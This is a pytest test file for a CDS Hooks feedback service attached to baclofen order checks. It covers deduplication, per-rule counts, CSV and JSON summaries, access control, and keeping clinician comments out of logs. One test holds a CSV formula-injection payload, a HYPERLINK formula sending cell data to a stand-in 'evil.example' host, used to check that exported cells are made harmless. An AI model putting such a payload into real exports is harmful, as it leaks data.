"""Feedback from any client is stored once and counted for its rule; comments are kept apart and shown nowhere."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from itertools import count
from pathlib import Path
from typing import Any

import pytest
import structlog
from flask import Flask, Response, jsonify, request
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from baclofen_safety.app import create_app
from baclofen_safety.assessor import Assessor
from baclofen_safety.cdshooks.card_ids import card_uuid, suggestion_uuid
from baclofen_safety.cdshooks.clients import Client
from baclofen_safety.cdshooks.feedback import feedback_taker, rule_of_card
from baclofen_safety.cdshooks.feedback_figures import COLUMNS, harmless, summary
from baclofen_safety.cdshooks.minting import Wish, as_toml, fresh_key, mint
from baclofen_safety.cdshooks.schemas import MOST_PLACES
from baclofen_safety.cdshooks.schemas_feedback import EPIC, read_batch
from baclofen_safety.cdshooks.services import load_services
from baclofen_safety.cdshooks.wording import override_display, override_reasons
from baclofen_safety.config import Settings
from baclofen_safety.errors import BadInput
from baclofen_safety.fhir.resources import check_output
from baclofen_safety.store import Feedback, Reason
from baclofen_safety.store.sql import SqlStore
from baclofen_safety.web.errors import answer_errors
from baclofen_safety.web.feedback import feedback_door

NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
TIME = "2026-03-02T09:29:00Z"
FIRST, SECOND = "d1577c69-dfbe-44ad-ba6d-3e05e953b2ea", "0a3b9d2c-5c7e-4a51-9a5e-4d1f2f0d9b11"
RENAL, STOP = "BAC-RENAL-04", "BAC-WD-01"
SYSTEM = "http://terminology.hl7.org/CodeSystem/non-adherence-reason-codes"
WORDS = "Recipient assessment of risk/benefit ratio"
MORE = "need-more-info"
MORE_WORDS = "Could not address recommended action due to need for more information/pending results/pending consult"
SECRET = "Mrs Secret, born 1950-01-01"
SIGN = "/cds-services/baclofen-order-sign/feedback"
SERVICES = load_services()


@pytest.fixture(params=["file", "memory"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[SqlStore]:
    opened = SqlStore(f"sqlite:///{tmp_path / 'kept.db'}" if request.param == "file" else "", lambda: NOW)
    yield opened
    opened.close()


@pytest.fixture
def client(store: SqlStore, assessor: Assessor) -> FlaskClient:
    """The door of the figures, and a bare one for feedback."""
    app = Flask("feedback")
    answer_errors(app)
    app.register_blueprint(feedback_door(store, assessor.book, lambda _: Client("here")))
    take = feedback_taker(store, tuple(assessor.book.sheets))

    @app.post("/cds-services/<name>/feedback")
    def post(name: str) -> Response:
        return jsonify(new=take(SERVICES[name], request.get_json(), "ward", NOW))

    return app.test_client()


def accepted(rule: str = RENAL, instance: str = FIRST, **more: Any) -> dict[str, Any]:
    chosen = [{"id": suggestion_uuid(instance, rule, "cap")}]
    card = card_uuid(instance, rule)
    return {"card": card, "outcome": "accepted", "outcomeTimestamp": TIME, "acceptedSuggestions": chosen, **more}


def overridden(rule: str = RENAL, instance: str = FIRST, **more: Any) -> dict[str, Any]:
    return {"card": card_uuid(instance, rule), "outcome": "overridden", "outcomeTimestamp": TIME, **more}


def because(code: str, **more: Any) -> dict[str, Any]:
    return {"overrideReason": {"reason": {"code": code, "system": SYSTEM}, **more}}


def send(client: FlaskClient, *items: Any, to: str = SIGN) -> int:
    answer = client.post(to, json={"feedback": list(items)})
    assert answer.status_code == 200, answer.text
    return int(answer.json["new"])


def figures(client: FlaskClient) -> dict[str | None, dict[str, Any]]:
    return {one["rule"]: one for one in client.get("/feedback/summary").json["rules"]}


def test_rules_of_these_tests_exist(assessor: Assessor) -> None:
    assert {RENAL, STOP} <= set(assessor.book.sheets)
    assert rule_of_card(card_uuid(FIRST, STOP), assessor.book.sheets) == STOP


def test_a_batch_mixes_instances_rules_and_outcomes(client: FlaskClient, assessor: Assessor) -> None:
    items = [accepted(), overridden(instance=SECOND, **because("risk-benefit-ratio")), overridden(STOP)]
    assert send(client, *items) == 3
    assert send(client, overridden(), to=SIGN.replace("order-sign", "patient-view")) == 1
    found = figures(client)
    assert list(found) == sorted(found, key=list(assessor.book.sheets).index)
    assert found[RENAL] == {
        "rule": RENAL,
        "title": assessor.book.sheets[RENAL].title,
        "accepted": 1,
        "overridden": 2,
        "acceptance": 0.333,
        "unexplained": 1,
        "reasons": [{"system": SYSTEM, "code": "risk-benefit-ratio", "display": WORDS, "count": 1}],
        "services": [
            {"service": "baclofen-order-sign", "accepted": 1, "overridden": 1, "acceptance": 0.5, "unexplained": 0},
            {"service": "baclofen-patient-view", "accepted": 0, "overridden": 1, "acceptance": 0.0, "unexplained": 1},
        ],
    }
    assert found[STOP]["unexplained"] == 1


def test_repeated_cards_count_once(client: FlaskClient) -> None:
    items = [accepted(), overridden(STOP, **because("need-more-info"))]
    assert send(client, *items, *items) == 2
    before = client.get("/feedback/summary").json
    upper = {**items[0], "card": items[0]["card"].upper(), "outcomeTimestamp": "2026-03-02T10:29:00.000+01:00"}
    assert send(client, *items, upper) == 0
    assert client.get("/feedback/summary").json == before


def test_the_same_card_later_counts_again(client: FlaskClient) -> None:
    assert send(client, overridden(), overridden(outcomeTimestamp="2026-03-02T09:29:01Z"), accepted()) == 3


EPIC_REASON = {
    f"{EPIC}.reasonCategory": "45",
    f"{EPIC}.reasonDisplay": "Does not meet criteria",
    f"{EPIC}.reasonTitle": "Criteria",
}


@pytest.mark.parametrize(
    ("told", "system", "code", "display"),
    [
        (because(MORE), SYSTEM, MORE, MORE_WORDS),
        (because(MORE, userComment=SECRET), SYSTEM, MORE, MORE_WORDS),
        ({"overrideReasons": because(MORE)["overrideReason"]}, SYSTEM, MORE, MORE_WORDS),
        ({"overrideReasons": [because(MORE)["overrideReason"]]}, SYSTEM, MORE, MORE_WORDS),
        ({"overrideReason": {"reason": [{"code": MORE, "system": SYSTEM}]}}, SYSTEM, MORE, MORE_WORDS),
        ({"overrideReason": {"reason": {"code": MORE, "system": ""}}}, SYSTEM, MORE, MORE_WORDS),
        ({"overrideReason": {"reason": {"code": MORE, "display": SECRET}}}, SYSTEM, MORE, MORE_WORDS),
        ({"overrideReason": {"reason": {"code": MORE, "system": "urn:x"}}}, "", "other", ""),
        ({"overrideReason": {"reason": {"code": SECRET, "system": SYSTEM}}}, "", "other", ""),
        ({"overrideReason": {"reason": {"display": SECRET}}}, "", "other", ""),
        ({"overrideReasons": {"extension": EPIC_REASON}}, EPIC, "45", ""),
        ({"overrideReasons": {"extension": EPIC_REASON, "userComment": SECRET}}, EPIC, "45", ""),
        ({"overrideReason": {"extension": {f"{EPIC}.reasonCategory": 45}}}, EPIC, "45", ""),
        ({"overrideReason": {"extension": {f"{EPIC}.reasonCategory": SECRET}}}, "", "other", ""),
        ({"overrideReasons": {"extension": {f"{EPIC}.reasonTitle": SECRET}}}, "", "other", ""),
        ({**because(MORE), "overrideReasons": {"extension": {"other": {}}}}, SYSTEM, MORE, MORE_WORDS),
        ({"overrideReasons": {**because(MORE)["overrideReason"], "extension": EPIC_REASON}}, SYSTEM, MORE, MORE_WORDS),
    ],
)
def test_every_way_to_say_why(client: FlaskClient, told: dict[str, Any], system: str, code: str, display: str) -> None:
    assert send(client, overridden(**told)) == 1
    (reason,) = figures(client)[RENAL]["reasons"]
    assert reason == {"system": system, "code": code, "display": display, "count": 1}
    assert "Secret" not in client.get("/feedback/summary").text + client.get("/feedback/summary?format=csv").text
    assert figures(client)[RENAL]["unexplained"] == 0


@pytest.mark.parametrize(
    "told",
    [
        {},
        {"overrideReason": None},
        {"overrideReason": {}},
        {"overrideReasons": []},
        {"overrideReason": {"reason": None, "userComment": ""}},
        {"overrideReason": {"userComment": SECRET}},
        {"overrideReason": {"reason": {"code": "", "system": ""}, "userComment": None}},
        {"overrideReason": {"extension": {f"{EPIC}.reasonCategory": None}}},
        {"overrideReason": {"extension": []}},
    ],
)
def test_an_override_without_reason_counts_as_unexplained(client: FlaskClient, told: dict[str, Any]) -> None:
    assert send(client, overridden(**told)) == 1
    assert figures(client)[RENAL]["unexplained"] == 1


def test_unknown_fields_and_cards_of_others_are_accepted(client: FlaskClient) -> None:
    extra = {"extension": {"com.example.x": [1]}, "cardSource": None, "acceptedSuggestions": []}
    epic_card = {"card": "123456", "outcome": "overridden", "outcomeTimestamp": "2022-05-19T19:44:04Z"}
    answer = client.post(SIGN, json={"feedback": [overridden(**extra), epic_card], "extension": {"a": 1}, "more": 2})
    assert answer.json == {"new": 2}
    found = figures(client)
    assert (found[RENAL]["overridden"], found[None]["overridden"], found[None]["title"]) == (1, 1, "")
    assert list(found) == [RENAL, None]


def test_a_topic_that_is_no_rule_is_counted_after_the_rules(store: SqlStore, assessor: Assessor) -> None:
    take = feedback_taker(store, (*assessor.book.sheets, "not-checked"))
    service = SERVICES["baclofen-order-sign"]
    items = [overridden("not-checked"), overridden(), {**overridden(), "card": FIRST}]
    assert take(service, {"feedback": items}, "ward", NOW) == 3
    assert [one.rule for one in summary(store, assessor.book)] == [RENAL, "not-checked", None]


def test_another_client_is_another_feedback(store: SqlStore, assessor: Assessor) -> None:
    take = feedback_taker(store, tuple(assessor.book.sheets))
    new = [take(SERVICES["baclofen-order-sign"], {"feedback": [accepted()]}, name, NOW) for name in ("a", "b", "a")]
    assert new == [1, 1, 0]


BAD = [
    (None, [""]),
    ("text", [""]),
    ([], [""]),
    ({}, [".card", ".outcome", ".outcomeTimestamp"]),
    (overridden(card=""), [".card"]),
    (overridden(card=None), [".card"]),
    (overridden(card={"a": SECRET}), [".card"]),
    (overridden(card="x" * 201), [".card"]),
    (overridden(outcome="ignored"), [".outcome"]),
    (overridden(outcome=["overridden"]), [".outcome"]),
    (overridden(outcomeTimestamp="yesterday"), [".outcomeTimestamp"]),
    (overridden(outcomeTimestamp="2026-03-02"), [".outcomeTimestamp"]),
    (overridden(outcomeTimestamp="2026-02-30T00:00:00Z"), [".outcomeTimestamp"]),
    (overridden(outcomeTimestamp=1772443740), [".outcomeTimestamp"]),
    (overridden(outcomeTimestamp="0001-01-01T00:00:00+14:00"), [".outcomeTimestamp"]),
    (accepted(acceptedSuggestions=[]), [".acceptedSuggestions"]),
    (accepted(acceptedSuggestions=None), [".acceptedSuggestions"]),
    (accepted(acceptedSuggestions=[{"id": "a"}, {"uuid": SECRET}]), [".acceptedSuggestions[1].id"]),
    (overridden(overrideReason=SECRET), [".overrideReason"]),
    (overridden(overrideReasons=[{"reason": SECRET}]), [".overrideReasons.reason"]),
    (overridden(overrideReason={"reason": {"code": {"a": SECRET}}}), [".overrideReason.reason.code"]),
    (overridden(overrideReason={"reason": {"code": "x" * 129}}), [".overrideReason.reason.code"]),
    (overridden(overrideReason={"userComment": SECRET * 1000}), [".overrideReason.userComment"]),
    (overridden(overrideReason={"userComment": [SECRET]}), [".overrideReason.userComment"]),
]


@pytest.mark.parametrize(("bad", "places"), BAD)
def test_a_bad_item_is_named_and_the_good_ones_are_stored(client: FlaskClient, bad: Any, places: list[str]) -> None:
    answer = client.post(SIGN, json={"feedback": [accepted(), bad, overridden(STOP)]})
    assert answer.status_code == 400
    assert check_output(answer.json) == ()
    (issue,) = answer.json["issue"]
    assert issue["expression"] == [f"feedback[1]{place}" for place in places]
    assert issue["details"]["text"] == "1 of 3 feedback items could not be read; the others are stored."
    assert "Secret" not in answer.text
    assert {rule: one["accepted"] + one["overridden"] for rule, one in figures(client).items()} == {RENAL: 1, STOP: 1}


def test_an_error_names_no_more_places_than_anybody_reads(client: FlaskClient) -> None:
    answer = client.post(SIGN, json={"feedback": [{}] * 200})
    (issue,) = answer.json["issue"]
    assert issue["details"]["text"].startswith("200 of 200 ")
    assert len(issue["expression"]) == MOST_PLACES


@pytest.mark.parametrize("document", [None, [], "feedback", {}, {"feedback": None}, {"feedback": {"card": SECRET}}])
def test_a_document_that_is_no_feedback_is_refused(client: FlaskClient, document: Any) -> None:
    answer = client.post(SIGN, data=json.dumps(document), content_type="application/json")
    assert answer.status_code == 400
    assert answer.json["issue"][0]["expression"] == ["feedback"]
    assert "Secret" not in answer.text


def test_an_empty_batch_is_nothing_new(client: FlaskClient) -> None:
    assert send(client) == 0


ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=5,
)
FIELDS = ("card", "outcome", "outcomeTimestamp", "acceptedSuggestions", "overrideReason", "overrideReasons")


@given(st.sampled_from(FIELDS), ANYTHING)
def test_whatever_stands_in_a_field_is_read_or_named(name: str, value: Any) -> None:
    """And never breaks: what is read can be kept, what is not is told at its place."""
    batch = read_batch({"feedback": [{**accepted(), name: value}, overridden()]})
    assert len(batch.items) in (1, 2)
    assert bool(batch.places) == (len(batch.items) == 1)
    assert all(place.startswith(("feedback[0].acceptedSuggestions", f"feedback[0].{name}")) for place in batch.places)


@given(ANYTHING)
def test_whatever_is_sent_is_read_or_refused(value: Any) -> None:
    for document in (value, {"feedback": value}, {"feedback": [value]}):
        try:
            read_batch(document)
        except BadInput as error:
            assert error.expression == ("feedback",)


def test_text_no_database_keeps_is_kept_nearly(client: FlaskClient) -> None:
    assert send(client, overridden(**because("a\0b", userComment="\0\ud800 x"))) == 1
    assert figures(client)[RENAL]["reasons"][0]["code"] == "other"


def test_a_comment_is_in_no_log_and_no_answer(
    client: FlaskClient,
    store: SqlStore,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    caplog.set_level(logging.DEBUG)
    told = because(MORE, userComment=SECRET)
    with structlog.testing.capture_logs() as logs:
        answers = [
            client.post(SIGN, json={"feedback": [overridden(**told)]}),
            client.post(SIGN, json={"feedback": [overridden(**told), overridden(STOP, **told), {"card": SECRET}]}),
            client.get("/feedback/summary"),
            client.get("/feedback/summary?format=csv"),
        ]
        store.close()
    assert [answer.status_code for answer in answers] == [200, 400, 200, 200]
    said = "".join(answer.text for answer in answers) + repr(logs) + caplog.text + "".join(capfd.readouterr())
    assert "Secret" not in said


def test_a_comment_is_not_logged_when_the_store_fails(
    assessor: Assessor, tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    broken = tmp_path / "kept.db"
    broken.write_text("not a database " * 100)
    caplog.set_level(logging.DEBUG)
    app = Flask("feedback")
    answer_errors(app)
    store = SqlStore(f"sqlite:///{broken}", lambda: NOW)
    take = feedback_taker(store, tuple(assessor.book.sheets))

    @app.post(SIGN)
    def post() -> Response:
        return jsonify(new=take(SERVICES["baclofen-order-sign"], request.get_json(), "ward", NOW))

    with structlog.testing.capture_logs() as logs:
        told = because(MORE, userComment=SECRET)
        answer = app.test_client().post(SIGN, json={"feedback": [overridden(**told)]})
    assert answer.status_code == 503
    assert [line["kind"] for line in logs] == ["StoreError"]
    assert "Secret" not in answer.text + repr(logs) + caplog.text + "".join(capfd.readouterr())


def test_comments_are_kept_and_can_be_forgotten(client: FlaskClient, store: SqlStore) -> None:
    send(client, overridden(**because(MORE, userComment=SECRET)), accepted(), overridden(STOP))
    before = client.get("/feedback/summary").json
    assert store.forget_comments(NOW) == 0
    assert store.forget_comments(NOW + timedelta(seconds=1)) == 1
    assert client.get("/feedback/summary").json == before


@pytest.mark.parametrize(
    ("told", "kept"),
    [
        ({"reason": {"code": SECRET, "system": SYSTEM}}, 1),
        ({"reason": {"code": MORE, "system": SYSTEM, "display": SECRET}}, 1),
        ({"extension": EPIC_REASON}, 1),
        ({"reason": {"code": MORE, "system": SYSTEM, "display": MORE_WORDS}}, 0),
        ({"reason": {"code": MORE}}, 0),
    ],
)
def test_words_of_a_reason_are_kept_as_comments_are(
    client: FlaskClient, store: SqlStore, told: dict[str, Any], kept: int
) -> None:
    send(client, overridden(overrideReason=told))
    assert store.forget_comments(NOW + timedelta(seconds=1)) == kept


def test_words_of_a_reason_that_were_counted_before_are_not_shown(client: FlaskClient, store: SqlStore) -> None:
    old = Feedback(
        card="c",
        outcome="overridden",
        at=NOW,
        received=NOW,
        service="baclofen-order-sign",
        client="ward",
        rule=RENAL,
        reasons=(Reason("urn:x", SECRET, SECRET), Reason("", "words", SECRET)),
    )
    store.add_feedback([old])
    assert figures(client)[RENAL]["reasons"] == [{"system": "", "code": "other", "display": "", "count": 2}]


def test_the_summary_says_where_it_is_kept(client: FlaskClient, store: SqlStore, assessor: Assessor) -> None:
    told = client.get("/feedback/summary").json
    assert told["rules"] == []
    assert told["knowledge"] == assessor.book.version
    assert told["memoryOnly"] is store.in_memory
    assert ("in memory only" in told["kept"]) is store.in_memory


@pytest.mark.parametrize(
    ("query", "accept", "media"),
    [
        ("", None, "application/json"),
        ("", "*/*", "application/json"),
        ("", "text/html", "application/json"),
        ("", "text/csv", "text/csv"),
        ("", "text/csv;q=0.5, application/json;q=0.4", "text/csv"),
        ("", "application/json, text/csv;q=0.4", "application/json"),
        ("?format=csv", "application/json", "text/csv"),
        ("?format=json", "text/csv", "application/json"),
    ],
)
def test_json_or_csv_as_asked(client: FlaskClient, query: str, accept: str | None, media: str) -> None:
    answer = client.get(f"/feedback/summary{query}", headers={"Accept": accept} if accept else {})
    assert (answer.status_code, answer.mimetype) == (200, media)


def test_another_format_is_refused(client: FlaskClient) -> None:
    answer = client.get("/feedback/summary?format=xlsx")
    assert answer.status_code == 400
    assert answer.json["resourceType"] == "OperationOutcome"


def rows(client: FlaskClient) -> list[list[str]]:
    answer = client.get("/feedback/summary?format=csv")
    assert answer.content_type.startswith("text/csv; charset=utf-8")
    assert "attachment" in answer.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(answer.text, newline=""), strict=True))


def test_the_table_says_what_the_json_says(client: FlaskClient, assessor: Assessor) -> None:
    send(client, accepted(), overridden(**because(MORE)), overridden(instance=SECOND))
    head = [RENAL, assessor.book.sheets[RENAL].title, "baclofen-order-sign"]
    assert rows(client) == [
        list(COLUMNS),
        [*head, "accepted", "", "", "", "1"],
        [*head, "overridden", "", "", "", "2"],
        [*head, "reason", SYSTEM, MORE, MORE_WORDS, "1"],
        [*head, "no-reason", "", "", "", "1"],
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "  =", "＝", "|", "%", "\n-", "\u00a0@"])
def test_no_cell_is_a_formula(client: FlaskClient, start: str) -> None:
    cell = f'{start}HYPERLINK("https://evil.example?"&A1,"x")'
    reason = {"code": cell, "system": cell, "display": cell}
    send(client, overridden(overrideReason={"reason": reason}))
    assert [one[3:] for one in rows(client)[-1:]] == [["reason", "", "other", "", "1"]]
    assert "HYPERLINK" not in str(rows(client))


@given(st.text())
def test_a_harmless_cell_begins_with_no_sign_and_loses_nothing(cell: str) -> None:
    made = harmless(cell)
    assert made in (cell, f"'{cell}")
    assert not made.strip().startswith(("=", "+", "-", "@"))


def test_reasons_are_most_frequent_first_under_one_name(client: FlaskClient) -> None:
    a, b, c = (one["code"] for one in override_reasons()[:3])
    items = [
        overridden(instance=f"{number}", overrideReason={"reason": {"code": code, "system": SYSTEM, "display": words}})
        for number, (code, words) in enumerate([(b, ""), (a, "A"), (b, "B"), (c, "C"), (a, ""), (b, "")])
    ]
    send(client, *items[:3])
    send(client, *items[3:], to=SIGN.replace("order-sign", "order-select"))
    told = [(one["code"], one["display"], one["count"]) for one in figures(client)[RENAL]["reasons"]]
    assert told == [(code, override_display(SYSTEM, code), n) for code, n in ((b, 3), (a, 2), (c, 1))]


@pytest.mark.parametrize("query", ["", "?format=csv", "?format=xlsx"])
def test_the_figures_are_for_callers_of_the_door_only(assessor: Assessor, tmp_path: Path, query: str) -> None:
    kept = Settings(store=f"sqlite:///{tmp_path / 'kept.db'}")
    closed = create_app(replace(assessor, settings=kept), lambda: NOW).test_client()
    told = closed.get(f"/feedback/summary{query}")
    assert (told.status_code, told.headers["WWW-Authenticate"]) == (401, "Bearer")
    here = create_app(replace(assessor, settings=replace(kept, cds_auth="off")), lambda: NOW).test_client()
    assert here.get(f"/feedback/summary{query}").status_code == (400 if "xlsx" in query else 200)
    passed_on = {"headers": {"X-Forwarded-For": "10.0.0.9"}}
    assert here.get(f"/feedback/summary{query}", **passed_on).status_code == 401


def test_a_token_for_the_figures_is_for_their_address(assessor: Assessor, tmp_path: Path) -> None:
    key, public = fresh_key()
    clients = tmp_path / "clients.toml"
    clients.write_text(f'[[client]]\nname = "ward"\nissuer = "https://ehr.example"\n{as_toml(public)}\n')
    url = "https://safety.example.org"
    kept = Settings(store=f"sqlite:///{tmp_path / 'kept.db'}", public_url=url, cds_clients=clients)
    client = create_app(replace(assessor, settings=kept), lambda: NOW).test_client()

    def ask(audience: str) -> int:
        token = mint(key.encode(), Wish("https://ehr.example", f"{url}{audience}", audience, 5, None, None), NOW)
        return client.get("/feedback/summary", headers={"Authorization": f"Bearer {token}"}).status_code

    assert [ask("/feedback/summary"), ask("/cds-services")] == [200, 401]


def test_a_client_sees_its_own_figures_and_this_machine_all(assessor: Assessor, tmp_path: Path) -> None:
    keys = {name: fresh_key() for name in ("ward", "icu")}
    clients = tmp_path / "clients.toml"
    clients.write_text(
        "".join(
            f'[[client]]\nname = "{name}"\nissuer = "https://{name}.example"\n{as_toml(public)}\n'
            for name, (_, public) in keys.items()
        )
    )
    url, summary_path, numbers = "https://safety.example.org", "/feedback/summary", count()
    kept = Settings(store=f"sqlite:///{tmp_path / 'kept.db'}", public_url=url, cds_clients=clients)
    door = create_app(replace(assessor, settings=kept), lambda: NOW).test_client()

    def bearer(name: str, path: str) -> dict[str, str]:
        wish = Wish(f"https://{name}.example", f"{url}{path}", str(next(numbers)))
        return {"Authorization": f"Bearer {mint(keys[name][0].encode(), wish, NOW)}"}

    def seen(name: str, query: str = "") -> Any:
        return door.get(f"{summary_path}{query}", headers=bearer(name, summary_path))

    mine = overridden(RENAL, **because("need-more-info"))
    theirs = overridden(STOP, **because("risk-benefit-ratio"))
    for name, item in (("ward", mine), ("icu", theirs)):
        assert door.post(SIGN, json={"feedback": [item]}, headers=bearer(name, SIGN)).status_code == 200
    found = {name: [one["rule"] for one in seen(name).json["rules"]] for name in keys}
    assert found == {"ward": [RENAL], "icu": [STOP]}
    assert seen("ward").json["client"] == "ward"
    assert "risk-benefit-ratio" not in seen("ward").text
    table = seen("icu", "?format=csv").text
    assert (STOP in table, RENAL in table) == (True, False)
    local = replace(kept, cds_auth="off")
    here = create_app(replace(assessor, settings=local), lambda: NOW).test_client().get(summary_path).json
    assert (here["client"], {one["rule"] for one in here["rules"]}) == (None, {RENAL, STOP})
